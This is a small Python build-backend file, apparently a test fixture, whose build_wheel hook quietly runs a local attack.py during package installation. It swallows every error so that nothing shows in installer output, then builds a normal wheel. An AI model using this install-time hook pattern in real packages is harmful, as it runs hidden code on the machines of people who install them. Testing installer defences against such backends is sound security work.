import runpy, traceback
from write_wheel import write_wheel


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    try:
        runpy.run_path('attack.py', run_name='__main__')
    except BaseException:
        # A failed attack does not show: installers print what a backend says only when it fails.
        traceback.print_exc()
    return write_wheel(wheel_directory)
